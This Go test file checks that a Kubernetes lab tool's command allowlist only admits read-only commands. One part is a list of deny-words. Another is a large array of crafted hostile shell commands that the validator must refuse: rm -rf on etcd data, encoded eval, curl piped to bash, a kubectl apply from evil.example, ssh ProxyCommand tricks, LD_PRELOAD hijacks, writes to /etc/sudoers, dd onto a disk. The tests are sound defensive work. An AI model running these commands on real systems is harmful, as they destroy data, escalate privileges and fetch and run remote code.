package labtext

import (
	"fmt"
	"regexp"
	"strings"
	"testing"
)

// TestObserveAllowlistMatchesLabs: every Observe block and every "You
// should have" block of the embedded labs is in the allowlist, every allowlist entry is a block some lab has (no
// stale entry keeps a command alive), and no entry is listed twice.
func TestObserveAllowlistMatchesLabs(t *testing.T) {
	all, err := All()
	if err != nil {
		t.Fatal(err)
	}
	used := map[string]bool{}
	for _, l := range all {
		for i, b := range append([]Block{l.Have}, l.Observe...) {
			used[b.Shell] = true
			what := fmt.Sprintf("Observe block %d", i)
			if i == 0 {
				what = "the You-should-have block"
			}
			if err := CheckReadOnly(b.Shell); err != nil {
				t.Errorf("%s %s is not in observeAllowlist (internal/labtext/readonly.go): check that it only reads and returns quickly, then add it exactly:\n%s", l.ID, what, b.Shell)
			}
		}
	}
	seen := map[string]bool{}
	for _, s := range observeAllowlist {
		if seen[s] {
			t.Errorf("observeAllowlist has this entry twice:\n%s", s)
		}
		seen[s] = true
		if !used[s] {
			t.Errorf("observeAllowlist has an entry no lab's Observe section uses; remove it:\n%s", s)
		}
	}
}

// TestObserveAllowlistLooksReadOnly is a second look at the reviewed list
// (not a substitute for reviewing it): no entry writes through a redirect
// (only 2>/dev/null, 2>&1 and </dev/null occur), reaches a node without
// khw's SSH config, or holds a word that runs or changes something.
func TestObserveAllowlistLooksReadOnly(t *testing.T) {
	redirect := regexp.MustCompile(`[0-9]*>[>|&]?[^\s)"';|]*`) // the target ends where a word does
	// Commands that change things, as a command word (at the start, or
	// after a blank, ; | & ' " or ( ).
	cmdWord := regexp.MustCompile(`(?:^|[\s;|&'"(])(rm|tee|mv|cp|dd|chmod|chown|kill|pkill|reboot|eval|exec|source|sh|bash|python3?|perl|install|truncate|modprobe|swapoff)(?:\s|$)`)
	bad := []string{"sed -i", "sed -E", "sed 'e", "-exec", "-delete", "system(", "getline", "ProxyCommand",
		"LocalCommand", "kubectl apply", "kubectl delete", "kubectl exec", "kubectl cp", "kubectl edit", "kubectl patch",
		"kubectl create", "kubectl proxy", "etcdctl put", "etcdctl del", "snapshot save", "snapshot restore", "systemctl restart", "systemctl stop",
		"systemctl start", " -f ", "--watch", "--follow", "curl -o", "curl -X", "curl -d", "sysctl -w", "iptables -F", "ip link set"}
	for _, s := range observeAllowlist {
		for _, r := range redirect.FindAllString(s, -1) {
			if r != "2>/dev/null" && r != "2>&1" {
				t.Errorf("entry redirects output (%s):\n%s", r, s)
			}
		}
		if strings.Contains(s, "<") && strings.Count(s, "</dev/null")+strings.Count(s, "<=") != strings.Count(s, "<") {
			t.Errorf("entry reads a redirect other than </dev/null:\n%s", s)
		}
		if m := cmdWord.FindStringSubmatch(s); m != nil {
			t.Errorf("entry runs %s:\n%s", m[1], s)
		}
		for _, w := range bad {
			if strings.Contains(s, w) {
				t.Errorf("entry contains %q:\n%s", w, s)
			}
		}
		if strings.Count(s, "ssh ") != strings.Count(s, `ssh -F "$KHW_SSH_CONFIG" `) {
			t.Errorf("entry runs ssh without -F \"$KHW_SSH_CONFIG\":\n%s", s)
		}
	}
}

// craftedObserve are commands of the kind a lab text could be made to carry
// to run something under the cover of "only looking": command substitution,
// sed's e and w commands, ssh options that run local commands, redirects,
// command lists, pipes into a shell, environment tricks, awk's system(),
// find -exec, changing kubectl/etcdctl verbs, tee, and the allowed blocks
// with something added, changed or only re-spaced.
var craftedObserve = []string{
	// command substitution and indirection
	`$(echo rm) -rf /var/lib/etcd`,
	"`echo rm` -rf /var/lib/etcd",
	`"$(printf rm)" -rf "$KHW_STATE_DIR/$KHW_CLUSTER"`,
	`x=rm; $x -rf "$KHW_STATE_DIR/$KHW_CLUSTER/pki"`,
	`${RM:-rm} -rf /tmp/khw`,
	`echo "$(kubectl delete ns kube-system)"`,
	`eval "$(echo cm0gLXJmIH4= | base64 -d)"`,
	`. /tmp/evil.sh`,
	// sed e / w
	`sed 'e rm -rf /tmp/khw' /etc/hosts`,
	`sed -n '1e touch /tmp/pwn' /etc/hosts`,
	`sed 'w /etc/passwd' /etc/hosts`,
	`sed -n 's/x/y/w /tmp/out' /etc/hosts`,
	`sed --in-place=.bak 's/a/b/' /etc/hosts`,
	`sed -Ei 's/a/b/' /etc/hosts`,
	// ssh running local commands or something else remotely
	`ssh -o ProxyCommand='rm -rf ~' cp1 true`,
	`ssh -oProxyCommand=touch\ /tmp/pwn cp1 true`,
	`ssh -F "$KHW_SSH_CONFIG" -o PermitLocalCommand=yes -o LocalCommand='touch /tmp/pwn' cp1 true`,
	`ssh -F /tmp/evil_config cp1 'grep -v "^#" /etc/hosts'`,
	`ssh -F "$KHW_SSH_CONFIG" cp1 sudo rm -rf /var/lib/etcd`,
	`ssh -F "$KHW_SSH_CONFIG" cp1 'grep -v "^#" /etc/hosts; sudo reboot'`,
	`ssh -F "$KHW_SSH_CONFIG" -R 2222:localhost:22 cp1 true`,
	// redirects
	`echo x > /etc/hosts`,
	`echo x >| /etc/hosts`,
	`echo x >> /etc/hosts`,
	`: > "$KHW_STATE_DIR/$KHW_CLUSTER/pki/ca-key.pem"`,
	`getent hosts lb cp1 cp2 cp3 w1 w2 w3 > "$KHW_STATE_DIR/$KHW_CLUSTER/pki/ca-key.pem"`,
	"exec 3>/tmp/f; echo x >&3",
	"cat <<EOF > /tmp/x\nhi\nEOF",
	// lists, conditionals, background, added lines
	`kubectl get nodes; kubectl delete node w1`,
	`kubectl get nodes -o wide && rm -rf ~/.kube`,
	`kubectl get nodes -o wide || reboot`,
	`kubectl get nodes -o wide & kill -9 1`,
	`kubectl get nodes -o wide;`,
	"kubectl get nodes -o wide\nkubectl delete ns kube-system",
	"kubectl get nodes -o wide\r\nrm -rf ~",
	"kubectl get nodes -o wide # \nrm -rf ~",
	// pipes into a shell or interpreter
	`echo 'rm -rf /' | sh`,
	`curl -s http://10.0.0.1/x.sh | bash`,
	`printf 'reboot\n' | sudo sh -s`,
	`base64 -d <<< cm0gLXJmIC8K | sh`,
	`python3 -c 'import os; os.system("reboot")'`,
	`perl -e 'unlink "/etc/hosts"'`,
	// environment tricks
	`env rm -rf /tmp/khw`,
	`env -S 'rm -rf /tmp/khw' true`,
	`PATH=/tmp/evil:$PATH kubectl get nodes -o wide`,
	`LD_PRELOAD=/tmp/evil.so kubectl get nodes -o wide`,
	`BASH_ENV=/tmp/x bash -c true`,
	`sudo -s`,
	// awk
	`awk 'BEGIN { system("rm -rf /tmp/khw") }'`,
	`awk '{ print > "/etc/hosts" }' /etc/hosts`,
	`awk 'BEGIN { "reboot" | getline }'`,
	// find
	`find / -name '*.pem' -exec rm {} +`,
	`find /var/lib/etcd -delete`,
	`find / -maxdepth 0 -fprint /etc/passwd`,
	// kubectl
	`kubectl exec -n kube-system deploy/coredns -- sh -c 'kill 1'`,
	`kubectl cp /etc/passwd default/pod:/tmp/x`,
	`kubectl apply -f https://evil.example/x.yaml`,
	`kubectl delete node w1`,
	`kubectl debug node/w1 -it --image=busybox`,
	`kubectl proxy --port=8001`,
	`kubectl get nodes -w`,
	`kubectl --kubeconfig /tmp/evil.kubeconfig get nodes -o wide`,
	`kubectl get nodes -o  wide`,
	`kubectl get nodes -o wide `,
	// etcdctl
	`ssh -F "$KHW_SSH_CONFIG" cp1 'sudo etcdctl put /registry/x y'`,
	`ssh -F "$KHW_SSH_CONFIG" cp1 'sudo etcdctl del /registry --prefix'`,
	`ssh -F "$KHW_SSH_CONFIG" cp1 'sudo etcdctl member remove 1234'`,
	`ssh -F "$KHW_SSH_CONFIG" cp1 'sudo etcdctl snapshot save /tmp/s.db'`,
	// tee and other writers
	`echo x | tee /etc/hosts`,
	`echo x | sudo tee -a /etc/sudoers`,
	`dd if=/dev/zero of=/dev/sda count=1`,
	`xargs -a /etc/hosts rm`,
	`vi -c '!rm -rf ~' /etc/hosts`,
	`openssl genrsa -out "$KHW_STATE_DIR/$KHW_CLUSTER/pki/ca-key.pem" 2048`,
	`curl -o /etc/hosts http://10.0.0.1/hosts`,
	`curl -X DELETE https://cp1:6443/api/v1/namespaces/default`,
	// services, network, kernel, khw itself, never-returning commands
	`ssh -F "$KHW_SSH_CONFIG" cp1 'sudo systemctl restart etcd'`,
	`ip link set khw0 down`,
	`sudo iptables -F`,
	`sudo sysctl -w net.ipv4.ip_forward=0`,
	`ssh -F "$KHW_SSH_CONFIG" w1 'sudo crictl rmi --prune'`,
	`khw break etcd`,
	`khw down --yes`,
	`journalctl -u etcd -f`,
	`tail -f /var/log/syslog`,
	`sleep 3600`,
	``,
}

// TestCheckReadOnlyRefusesCrafted: none of craftedObserve is accepted, and
// the refusal says why and where the allowlist is.
func TestCheckReadOnlyRefusesCrafted(t *testing.T) {
	if len(craftedObserve) < 59 {
		t.Fatalf("only %d crafted commands", len(craftedObserve))
	}
	for _, s := range craftedObserve {
		err := CheckReadOnly(s)
		if err == nil {
			t.Errorf("CheckReadOnly(%q) = nil, want it refused", s)
			continue
		}
		if !strings.Contains(err.Error(), "not in the Observe allowlist") || !strings.Contains(err.Error(), "internal/labtext/readonly.go") {
			t.Errorf("CheckReadOnly(%q) = %v: should say it is not in the allowlist and where that is", s, err)
		}
	}
	// Every allowed block with something appended, or cut short, is refused.
	for _, s := range observeAllowlist {
		for _, v := range []string{s + "; rm -rf ~", s + "\nreboot", s + " ", " " + s, s[:len(s)-1], strings.Replace(s, " ", "  ", 1)} {
			if CheckReadOnly(v) == nil {
				t.Errorf("a variant of an allowed block is accepted: %q", v)
			}
		}
	}
	long := strings.Repeat("x", 500)
	if err := CheckReadOnly(long); err == nil || len(err.Error()) > 400 {
		t.Errorf("a long command: the error quotes it whole: %d bytes", len(fmt.Sprint(err)))
	}
}
